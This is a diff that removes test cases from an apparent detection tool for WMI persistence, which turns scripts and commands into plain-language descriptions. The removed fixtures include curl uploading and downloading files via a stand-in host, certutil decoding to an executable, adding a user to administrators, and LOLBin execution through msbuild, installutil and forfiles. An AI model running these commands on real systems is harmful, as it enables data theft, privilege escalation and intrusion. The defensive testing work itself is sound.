@@ -276,52 +276,6 @@ test.each([
 })
 
 test.each([
-  ['GetObject("winmgmts:").ExecQuery "select * from __EventFilter"', 'looks at subscriptions'],
-  ['GetObject("winmgmts:").Get("__EventFilter.Name=\'x\'").Delete_', 'removes subscriptions'],
-  [
-    'Set f = GetObject("winmgmts:").Get("__EventFilter").SpawnInstance_\nf.Put_',
-    'creates or changes subscriptions itself',
-  ],
-  ['Run "vssadmin list shadows"', 'looks at shadow copies'],
-  ['Run "certutil -hashfile C:\\x\\a.txt"', undefined],
-  ['Remove-Item HKLM:\\SOFTWARE\\Acme', 'deletes registry keys'],
-])('a script is not said to do more than it does: %s', (text, words) => {
-  expect(describeScript(text)).toBe(words)
-})
-
-test('a log file on another machine is a place on the network, and still only text', () => {
-  const file = '\\\\fs01\\logs\\a.log'
-  const payload = analysePayload(
-    { class: 'LogFileEventConsumer', properties: { Filename: file, Text: 'x' } },
-    lists,
-  )
-  expect(payload.features.map(({ id }) => id)).toEqual(['payload/network'])
-})
-
-test.each([
-  ['shutdown /a', 'calls off a shutdown that was ordered before'],
-  ['shutdown -r -f -t 0', 'restarts the computer'],
-  ['shutdown /s /t 60', 'shuts down the computer'],
-  ['msiexec /x {AAAA} /qn', 'removes the product {AAAA}'],
-  ['msiexec /y C:\\x\\a.dll', 'loads the library C:\\x\\a.dll'],
-  ['msiexec /qn /i C:\\x\\a.msi', 'installs C:\\x\\a.msi'],
-  ['netsh wlan show profiles', 'is given: wlan show profiles'],
-  ['netsh advfirewall reset', 'changes the network or the firewall (advfirewall reset)'],
-  ['bcdedit /enum', 'is given: /enum'],
-  ['curl -T C:\\x.zip https://e.example/u', 'sends data to hxxps[:]//e[.]example/u'],
-  ['curl https://e.example/u -o C:\\t\\a.exe', 'downloads hxxps[:]//e[.]example/u to C:\\t\\a.exe'],
-  ['certutil -decode C:\\a.txt C:\\b.exe', 'decodes C:\\a.txt into C:\\b.exe'],
-  ['net localgroup administrators eve /add', 'adds eve to the group administrators'],
-  ['net use', 'is given: use'],
-  ['taskkill /im a.exe /im b.exe /f', 'ends the programs a.exe, b.exe'],
-  ['msbuild C:\\x\\p.xml', 'builds C:\\x\\p.xml, which runs the code in it'],
-  ['installutil /logfile= /U C:\\x\\a.dll', 'loads and runs the program library C:\\x\\a.dll'],
-  ['forfiles /m n.exe /c C:\\x\\a.exe', 'runs C:\\x\\a.exe for every file it finds'],
-])('a switch that turns the meaning round is not overlooked: %s', (line, words) => {
-  expect(does(command(line))).toBe(`runs ${line.split(' ')[0]} as SYSTEM, which ${words}`)
-})
-
-test.each([
   ['payload/encoded-powershell', command('C:\\p\\powershell.exe -w hidden -nop -c x')],
   ['payload/memory-code', script('Set x = CreateObject("MSXML2.XMLHTTP")')],
   ['payload/network', command('C:\\a\\b.exe \\\\fileserver\\share\\x')],
